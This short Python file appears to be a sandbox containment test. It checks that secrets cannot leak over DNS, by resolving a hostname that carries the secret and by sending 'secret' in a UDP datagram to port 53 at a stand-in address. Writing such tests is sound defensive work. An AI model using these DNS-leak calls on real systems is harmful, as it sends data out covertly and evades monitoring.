"""Leak by DNS: ask a resolver for a name that carries the secret.

HELD: no name resolves and no datagram to port 53 leaves.
"""
from attack import *

succeeds("resolved example.org", lambda: socket.getaddrinfo("secret.example.org", 80))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    succeeds("sent a datagram", lambda: s.sendto(b"secret", ("192.0.2.1", 53)))
